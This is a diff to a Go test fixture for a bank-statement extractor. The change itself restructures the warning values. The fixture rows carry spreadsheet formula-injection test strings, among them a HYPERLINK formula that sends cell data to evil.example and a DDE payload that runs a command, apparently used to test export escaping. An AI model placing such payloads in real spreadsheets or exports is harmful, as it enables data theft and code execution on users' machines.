@@ -55,7 +55,7 @@ func sample() *extract.Result {
 			{Date: day("2024-01-03"), Description: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, AmountOut: dec("50.5"), Balance: *dec("3822.79")},
 			{Date: day("2024-01-03"), Description: "-cmd|' /C calc'!A0", AmountOut: dec("4000"), Balance: *dec("-177.21")},
 			{Date: day("2024-01-05"), Description: "+SUM(1,2)", AmountIn: dec("10.00"), Balance: *dec("-167.21"),
-				Warnings: []string{"balance computed from the opening balance"}},
+				Warnings: []extract.Warning{{Kind: extract.WarnBalanceComputed, Message: "balance computed from the opening balance"}}},
 			{Date: day("2024-01-08"), Description: "@SUM(A1:A2)", AmountOut: dec("0.01"), Balance: *dec("-167.22")},
 			{Date: day("2024-01-09"), Description: "\tTAB LEADING", AmountOut: dec("1.10"), Balance: *dec("-168.32")},
 			{Date: day("2024-01-10"), Description: "\rCR LEADING", AmountOut: dec("2.20"), Balance: *dec("-170.52")},
